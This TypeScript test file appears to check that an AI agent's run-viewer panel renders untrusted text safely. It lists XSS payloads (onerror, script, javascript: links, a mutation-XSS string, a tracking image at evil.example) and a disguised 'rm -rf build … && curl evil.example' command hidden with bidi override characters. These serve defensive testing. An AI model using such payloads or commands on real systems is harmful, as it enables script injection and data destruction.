import assert from 'node:assert/strict';
import type { Fact } from '../../src/shared/events.ts';
import { done, logOf, replied, started } from './logs.ts';
import { forked } from './runStates.ts';
import { runId } from './panelPage.ts';
import { panelSuite } from './panelSuite.ts';

const attacks = [
  '<img src=x onerror="window.injected++">',
  '<script>window.injected++</script>',
  '"><svg onload=window.injected++>',
  '<iframe srcdoc="<script>parent.injected++</script>"></iframe>',
  '[x](javascript:window.injected++)',
  '[x](data:text/html,<script>window.injected++</script>)',
  '![x](https://evil.example/track.png)',
  '<a href="javascript:window.injected++" id="injected-link">click</a>',
  '<style>*{display:none}</style>',
  '<cite data-uri="/etc/passwd" data-line="1"></cite>',
  '[x](https://evil.example/"onmouseover="window.injected++)',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.injected++&gt;">',
];
const attack = attacks.join('\n\n');

const tools: readonly { readonly tool: string; readonly args: Record<string, unknown>; readonly content?: string }[] = [
  { tool: 'run_command', args: { command: attack } },
  { tool: 'run_python_code', args: { code_block: attack } },
  { tool: 'read_file', args: { path: attack, start_line: attack } },
  { tool: 'list_files', args: { path: attack } },
  {
    tool: 'search_files',
    args: { pattern: attack, path: attack },
    content: attacks.map((one, i) => `${one}:${i + 1}: ${one}`).join('\n'),
  },
  { tool: 'write_file', args: { path: attack, content: attack } },
  { tool: 'edit_file', args: { path: attack, old_text: attack, new_text: `${attack}\nmore` } },
  {
    tool: 'google_search',
    args: { q: attack },
    content: JSON.stringify({ organic: [{ title: attack, link: 'javascript:window.injected++', snippet: attack }] }),
  },
  {
    tool: 'scrape_and_extract_info',
    args: { url: attack, info_to_extract: attack },
    content: JSON.stringify({ extracted_info: attack }),
  },
  { tool: attack, args: { [attack]: attack, nested: { [attack]: attack } } },
];

/** A run whose every foreign field tries to be more than text. */
function hostile(): readonly Fact[] {
  const facts: Fact[] = [started({ question: attack, mentions: [attack], model: attack, baseUrl: attack })];
  for (const [index, { tool, args, content = attack }] of tools.entries()) {
    const reply = replied(index + 1, attack, { server: attack, tool, args }, { reasoning: attack, mended: [attack] });
    facts.push(...done(index + 1, reply, content, index % 2 ? { outcome: 'failed' } : {}));
  }
  return [
    ...facts,
    { type: 'turn.rolledBack', kind: 'malformed', reason: attack, reply: attack },
    ...steeringOf(tools.length + 1),
    {
      type: 'answer.given',
      boxed: attack,
      text: attack,
      sources: [
        { uri: attack, title: attack, quote: attack },
        { uri: 'javascript:window.injected++', title: 'x' },
      ],
    },
    { type: 'run.ended', reason: 'failed', message: `${attack}\n${attack}` },
  ];
}

/** Notes, reports, undone turns, edits and nested runs, each field hostile. */
function steeringOf(turn: number): readonly Fact[] {
  const place = { uri: attack, title: attack, quote: attack };
  const call = { server: 'agent-browsing', tool: 'search_and_browse', args: { subtask: attack, [attack]: attack } };
  const reply = replied(turn, attack, call, { mended: [attack, attack] });
  const callId = `call-${turn}`;
  return [
    { type: 'note.added', text: attack, afterTurn: turn - 1 },
    reply,
    { type: 'approval.requested', callId, reason: attack },
    { type: 'approval.decided', callId, decision: 'once', note: attack, arguments: { subtask: `${attack}!` } },
    ...done(turn, reply, attack, { runId: attack }).slice(2),
    { type: 'turn.rolledBack', kind: 'emptyResult', reason: attack, reply: attack, turn },
    { type: 'view.narrowed', maskedResults: 1, droppedThoughts: 1, promptTokens: 2, afterTokens: 1 },
    { type: 'window.learned', contextWindow: 32_768, reason: attack },
    { type: 'attempt.ended', attempt: 1, reason: 'context', failure: 'blocked', report: attack, evidence: [place] },
    { type: 'attempt.started', attempt: 2, task: attack },
  ];
}

/** A fork behind the end, and what waits in it. */
const hostileLater: readonly Fact[] = [
  { ...forked, model: attack, baseUrl: attack, parent: { runId: attack, seq: 1 } },
  { type: 'note.added', text: attack, afterTurn: 1_000 },
  { type: 'question.queued', question: attack, mentions: [attack] },
];

const hostileRollouts = {
  type: 'rollouts',
  rollouts: [
    { runId, index: 1, state: 'answered', turns: 1, boxed: attack },
    { runId: attack, index: 2, state: 'answered', turns: 1, boxed: attack },
  ],
  majority: { answer: attack, count: 2, of: 2 },
} as const;

describe('foreign text', () => {
  const open = panelSuite();

  it('stays text in every field: nothing runs, loads or leaves', async () => {
    const panel = await open({
      events: logOf([...hostile(), ...hostileLater]),
      setup: { problem: attack, model: attack, baseUrl: attack },
      run: { readOnly: attack, recovered: attack },
    });
    const { page } = panel;
    await page.locator('.markdown:not(.plain)').waitFor();
    await panel.post(hostileRollouts);
    await page.evaluate(
      'for (const line of document.querySelectorAll("[aria-expanded=false]")) if (!line.getAttribute("aria-haspopup")) line.click()',
    );
    await page.evaluate(
      'for (const link of document.querySelectorAll(".answer .markdown a, .sources a")) link.click()',
    );
    await page.evaluate('drawn()');
    assert.equal(await page.evaluate('window.injected'), 0);
    assert.equal(
      await page.locator('#panel :is(img, iframe, script, style, svg, object, embed, form, math)').count(),
      0,
    );
    assert.equal(await page.locator('#panel [href]').count(), 0);
    const handlers = await page.evaluate(
      '[...document.querySelectorAll("#panel *")].flatMap((e) => [...e.attributes]).filter((a) => a.name.startsWith("on") || a.name === "style" && !a.value.startsWith("inline-size")).length',
    );
    assert.equal(handlers, 0);
    assert.equal(page.url().endsWith('/'), true);
    assert.deepEqual(panel.complaints, []);
    const opened = panel.sent.flatMap((message) => (message.type === 'openLink' ? [message.url] : []));
    assert.equal(
      opened.every((url) => /^https?:\/\//.test(url)),
      true,
    );
  });

  it('stays text in a fork, in rollouts, and in the edit of a call', async () => {
    const command = `${attack}\u202e`;
    const facts: Fact[] = [
      started({ question: attack, caller: { runId: attack, callId: attack } }),
      replied(1, 'Clean.', { server: attack, tool: 'run_command', args: { command } }),
      { type: 'approval.requested', callId: 'call-1', reason: attack },
    ];
    const panel = await open({ events: logOf(facts), run: { live: true } });
    const { page } = panel;
    await panel.post(hostileRollouts);
    await page.getByRole('button', { name: 'Edit the arguments' }).click();
    const area = page.getByRole('textbox', { name: 'Edit the arguments as JSON' });
    const text = await area.inputValue();
    assert.deepEqual(JSON.parse(text), { command });
    assert.equal(text.includes('\u202e'), false);
    await panel.screenshot('foreign-edit');
    // What is asked for is so long that it takes a low panel.
    await page.setViewportSize({ width: 900, height: 1_600 });
    await page.locator('article.turn').hover();
    await page.getByRole('button', { name: 'Fork from here…' }).click();
    assert.equal(await page.evaluate('window.injected'), 0);
    assert.equal(await page.locator('#panel :is(img, iframe, script, style, svg, object, embed, math)').count(), 0);
    assert.deepEqual(panel.complaints, []);
  });

  it('shows characters that hide or turn others in what is to be allowed', async () => {
    const command = 'rm -rf build \u202e#sey\u202c && curl evil.example';
    const facts: Fact[] = [
      started(),
      replied(1, 'Clean.', { server: 'tool-python', tool: 'run_command', args: { command } }),
      { type: 'approval.requested', callId: 'call-1', reason: 'It runs a command' },
    ];
    const panel = await open({ events: logOf(facts), run: { live: true } });
    assert.match(await panel.page.locator('.approval').innerText(), /rm -rf build ‹U\+202E›#sey‹U\+202C› && curl/);
  });

  it('cannot be opened as a page unless it leads to the web, and then only on a click', async () => {
    const text = 'A claim ([the page](https://example.org/a)). Another [docs/a b.md:12].';
    const facts: Fact[] = [
      started(),
      { type: 'answer.given', boxed: 'yes', text, sources: [] },
      { type: 'run.ended', reason: 'answered' },
    ];
    const panel = await open({ events: logOf(facts) });
    await panel.page.locator('.cite').first().waitFor();
    assert.deepEqual(
      panel.sent.map(({ type }) => type),
      ['ready'],
    );
    await panel.page.getByRole('link', { name: 'Source 1: the page' }).click();
    await panel.page.getByRole('link', { name: 'Source 2: docs/a b.md:12' }).press('Enter');
    assert.deepEqual(await panel.intention('openLink'), { type: 'openLink', url: 'https://example.org/a' });
    assert.deepEqual(await panel.intention('openSource'), { type: 'openSource', uri: 'docs/a b.md', line: 12 });
  });
});
